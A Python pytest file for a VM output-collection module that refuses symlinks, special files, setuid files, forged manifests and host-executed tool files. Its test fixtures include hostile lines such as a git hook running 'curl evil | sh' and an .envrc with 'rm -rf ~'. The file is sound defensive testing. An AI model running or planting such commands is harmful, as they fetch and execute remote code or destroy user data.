import hashlib
import os
import stat
import sys

import pytest

from vmiso import outputs
from vmiso.errors import OutputError


def mark(path, mode):
    """Mark a host file as 9p's mapped mode does for what the guest created."""
    os.setxattr(path, outputs.VIRTFS_MODE, mode.to_bytes(4, sys.byteorder))


@pytest.fixture
def share(tmp_path):
    root = tmp_path / "share"
    root.mkdir()
    return root


def collect(share, dest, **limits):
    return outputs.collect(share, dest, max_bytes=limits.get("max_bytes", 10**6),
                           max_files=limits.get("max_files", 100))


def test_regular_files_copied_with_manifest(share, tmp_path):
    (share / "a.txt").write_text("alpha")
    (share / "sub").mkdir()
    (share / "sub" / "b.bin").write_bytes(b"\x00\x01")
    mark(share / "a.txt", stat.S_IFREG | 0o755)
    dest = tmp_path / "dest"
    report = collect(share, dest)
    assert [f.path for f in report.files] == ["a.txt", "sub/b.bin"]
    assert (dest / "a.txt").read_text() == "alpha"
    assert stat.S_IMODE((dest / "a.txt").stat().st_mode) == 0o644  # no exec bit carried over
    manifest = (dest / "MANIFEST").read_text().splitlines()
    assert manifest[0] == hashlib.sha256(b"alpha").hexdigest() + "  a.txt"
    assert report.refused == []


@pytest.mark.parametrize("mode, reason", [
    (stat.S_IFLNK | 0o777, "symbolic link"),
    (stat.S_IFIFO | 0o644, "FIFO"),
    (stat.S_IFCHR | 0o644, "device"),
    (stat.S_IFREG | stat.S_ISUID | 0o755, "setuid"),
    (stat.S_IFREG | stat.S_ISGID | 0o755, "setgid"),
])
def test_guest_special_files_refused(share, tmp_path, mode, reason):
    (share / "bad").write_text("/etc/shadow")
    mark(share / "bad", mode)
    (share / "good").write_text("ok")
    report = collect(share, tmp_path / "dest")
    assert [f.path for f in report.files] == ["good"]
    assert report.refused[0][0] == "bad" and reason in report.refused[0][1]
    assert not (tmp_path / "dest" / "bad").exists()


def test_host_symlink_and_fifo_refused(share, tmp_path):
    os.symlink("/etc/passwd", share / "link")
    os.mkfifo(share / "fifo")
    report = collect(share, tmp_path / "dest")
    assert sorted(p for p, _ in report.refused) == ["fifo", "link"]
    assert report.files == []


def test_control_characters_and_reserved_name_refused(share, tmp_path):
    (share / "evil\nname").write_text("x")
    (share / "MANIFEST").write_text("forged")
    report = collect(share, tmp_path / "dest")
    reasons = dict(report.refused)
    assert "control characters" in reasons["evil\nname"]
    assert "MANIFEST" in reasons["MANIFEST"]
    assert (tmp_path / "dest" / "MANIFEST").read_text() == ""


def test_limits(share, tmp_path):
    (share / "big").write_bytes(b"x" * 2000)
    with pytest.raises(OutputError, match="more than 1000 bytes"):
        collect(share, tmp_path / "d1", max_bytes=1000)
    for i in range(5):
        (share / f"f{i}").write_text("x")
    with pytest.raises(OutputError, match="more than 3 files"):
        collect(share, tmp_path / "d2", max_files=3)
    assert not (tmp_path / "d1").exists() and not (tmp_path / "d2").exists()


def test_destination_rules(tmp_path):
    outputs.check_destination(tmp_path / "new")
    (tmp_path / "empty").mkdir()
    outputs.check_destination(tmp_path / "empty")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    with pytest.raises(OutputError, match="not empty"):
        outputs.check_destination(tmp_path / "full")
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError, match="not a directory"):
        outputs.check_destination(tmp_path / "file")
    with pytest.raises(OutputError, match="parent directory does not exist"):
        outputs.check_destination(tmp_path / "no" / "such")


def test_existing_file_never_overwritten(share, tmp_path):
    (share / "keep.txt").write_text("guest")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "keep.txt").write_text("mine")
    with pytest.raises(OutputError, match="keep.txt exists already"):
        collect(share, dest)
    assert (dest / "keep.txt").read_text() == "mine"


def test_usage_counts_blocks_and_stops_early(share):
    for i in range(10):
        (share / f"f{i}").write_bytes(b"y" * 5000)
    used, files = outputs.usage(share, stop_after_files=100)
    assert files == 10 and used >= 50000
    assert outputs.usage(share, stop_after_files=3)[1] == 4


def test_files_that_host_tools_would_run_are_refused_at_any_depth(share, tmp_path):
    (share / ".git" / "hooks").mkdir(parents=True)
    (share / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    (share / "proj" / ".vscode").mkdir(parents=True)
    (share / "proj" / ".vscode" / "tasks.json").write_text("{}")
    (share / "proj" / ".envrc").write_text("rm -rf ~\n")
    (share / "launch.desktop").write_text("[Desktop Entry]\nExec=sh\n")
    (share / "proj" / "notes.git.txt").write_text("fine")
    report = collect(share, tmp_path / "dest")
    refused = dict(report.refused)
    assert set(refused) == {".git", "proj/.vscode", "proj/.envrc", "launch.desktop"}
    assert "git runs hooks" in refused[".git"] and "--accept-tool-files" in refused[".git"]
    assert [f.path for f in report.files] == ["proj/notes.git.txt"]
    assert not (tmp_path / "dest" / ".git").exists()
    accepted = outputs.collect(share, tmp_path / "dest2", max_bytes=10**6, max_files=100, accept_tool_files=True)
    assert accepted.refused == [] and (tmp_path / "dest2" / ".git" / "hooks" / "post-checkout").exists()
